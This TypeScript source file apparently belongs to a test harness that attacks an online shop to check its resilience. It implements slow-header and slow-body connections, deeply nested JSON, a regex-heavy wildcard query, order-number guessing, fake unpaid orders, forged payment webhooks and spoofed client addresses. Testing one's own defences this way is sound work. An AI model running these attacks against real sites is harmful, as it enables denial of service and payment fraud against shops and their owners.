import net from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { JSON_BODY, SHOP_API } from '../shop-requests'

/** Time between two bytes of a slow client, in ms. */
const DRIP_MS = 500

/** The time after which a client that ignores answers disconnects, in ms. */
const LEAVE_MS = 20

interface Client {
  origin: string
  /** Its address in X-Forwarded-For. */
  address: string
  signal: AbortSignal
}

/** One kind of attack. */
export interface Kind {
  name: string
  /** Runs one client until its signal aborts; resolves then. */
  run(client: Client): Promise<void>
}

/** Repeats a request until the signal aborts, whatever the result. */
const overAndOver =
  (ask: (client: Client) => Promise<unknown>) =>
  async (client: Client): Promise<void> => {
    while (!client.signal.aborted) {
      // Refusals and broken connections are expected.
      await ask(client).catch(() => pause(50))
    }
  }

const request = async (
  { origin, address, signal }: Client,
  method: string,
  path: string,
  body?: string,
): Promise<string> => {
  const headers = { 'x-forwarded-for': address, ...JSON_BODY }
  const response = await fetch(origin + path, { method, signal, headers, body })
  return response.text()
}

/** Calls the shop API. */
const call = (client: Client, method: string, path: string, body: object) =>
  request(client, method, SHOP_API + path, JSON.stringify(body))

const post = (path: string, body: () => object) => overAndOver((client) => call(client, 'POST', path, body()))

/** A connection that sends `start`, then `more` every half a second. @param reads whether it reads the answers */
const drip = (start: (host: string) => string, more: string, reads: boolean) =>
  overAndOver(
    ({ origin, signal }) =>
      new Promise<void>((resolve, reject) => {
        const { hostname, port, host } = new URL(origin)
        const socket = net.connect(Number(port), hostname, () => socket.write(start(host)))
        const timer = setInterval(() => socket.write(more), DRIP_MS)
        const end = () => {
          clearInterval(timer)
          socket.destroy()
          signal.removeEventListener('abort', end)
        }
        signal.addEventListener('abort', end)
        if (reads) socket.resume()
        else socket.pause()
        socket.on('error', reject)
        socket.on('close', () => {
          end()
          resolve()
        })
      }),
  )

/** Connections that send a request and disconnect before it is answered. */
const leave = (start: (host: string, address: string) => string) =>
  overAndOver(async ({ origin, address }) => {
    const { hostname, port, host } = new URL(origin)
    const socket = net.connect(Number(port), hostname)
    // The server may disconnect first.
    socket.on('error', () => undefined)
    await new Promise((resolve) => socket.write(start(host, address), resolve))
    await pause(LEAVE_MS)
    socket.destroy()
  })

let counter = 0
const next = () => (counter += 1)

const newEmail = () => `visitor${next()}@example.co.za`

/** Fills a cart and orders by EFT, each time as another shopper. */
const orderByEft = overAndOver(async (client) => {
  const { id } = JSON.parse(await call(client, 'POST', '/carts/', { source: 'shop' })) as { id: string }
  const items = [{ item_id: 'khumo-print', quantity: 10 }]
  await call(client, 'POST', `/carts/${id}/bulk_add/`, { items })
  const phone = `0${820_000_000 + next()}`
  const contact_info = { first_name: 'T', last_name: 'N', email: newEmail(), phone }
  const street = `${next()} Long Street`
  const address = { street, suburb: 'M', city: 'J', province: 'Gauteng', postal_code: '2092' }
  await call(client, 'PATCH', `/carts/${id}/`, { contact_info, address })
  await call(client, 'POST', `/carts/${id}/eft_intent/`, {})
})

const MANY_STARS = `/v2/cdn/stories?token=demo&by_slugs=${'*a'.repeat(12)}*b&per_page=100&cv=1`

/** Attacks that once succeeded against this site, and common ones. */
export const KINDS: readonly Kind[] = [
  {
    name: 'headers that never end',
    run: drip((host) => `GET /za/ HTTP/1.1\r\nHost: ${host}\r\n`, 'X-A: b\r\n', true),
  },
  {
    name: 'bodies that never end',
    run: drip(
      (host) =>
        `POST ${SHOP_API}/carts/ HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{`,
      ' ',
      true,
    ),
  },
  {
    name: 'pages requested and not read',
    run: drip((host) => `GET /za/ HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(50), '\r\n', false),
  },
  {
    name: 'carts requested by clients that hang up',
    run: leave((host, address) =>
      [
        `POST ${SHOP_API}/carts/ HTTP/1.1`,
        `Host: ${host}`,
        `X-Forwarded-For: ${address}`,
        'Content-Type: application/json',
        'Content-Length: 17',
        '',
        '{"source":"shop"}',
      ]
        .join('\r\n')
        .repeat(8),
    ),
  },
  {
    name: 'patterns full of stars',
    run: overAndOver((client) => request(client, 'GET', MANY_STARS)),
  },
  {
    name: 'large pictures',
    run: overAndOver(async (client) => {
      const home = await request(client, 'GET', '/za/')
      const [picture = ''] = /\/f\/\d+\/\d+x\d+\/[\da-f]+\/[\w.-]+/.exec(home) ?? []
      const side = 3_000 + (next() % 1_000)
      await request(client, 'GET', `${picture}/m/${side}x${side}/filters:format(avif)`)
    }),
  },
  {
    name: 'order numbers tried',
    run: post('/orders/lookup/', () => ({ number: `ZA${10_000_000 + next()}`, email: newEmail() })),
  },
  { name: 'carts without end', run: post('/carts/', () => ({ source: 'shop' })) },
  {
    name: 'signups without end',
    run: post('/signups/', () => ({ owner_first_name: 'T', owner_last_name: 'N', email: newEmail() })),
  },
  { name: 'orders that nobody pays', run: orderByEft },
  {
    name: 'bodies nested deep',
    run: overAndOver((client) =>
      request(
        client,
        'POST',
        `${SHOP_API}/carts/`,
        `{"source":"shop","x":${'['.repeat(20_000)}${']'.repeat(20_000)}}`,
      ),
    ),
  },
  {
    name: 'long lists of items',
    run: post('/carts/00000000-0000-4000-8000-000000000000/bulk_add/', () => ({
      items: Array.from({ length: 2_000 }, () => ({ item_id: 'khumo' })),
    })),
  },
  {
    name: 'forged events of payment',
    run: post('/webhooks/checkout/', () => ({ id: next(), type: 'payment_approved' })),
  },
]
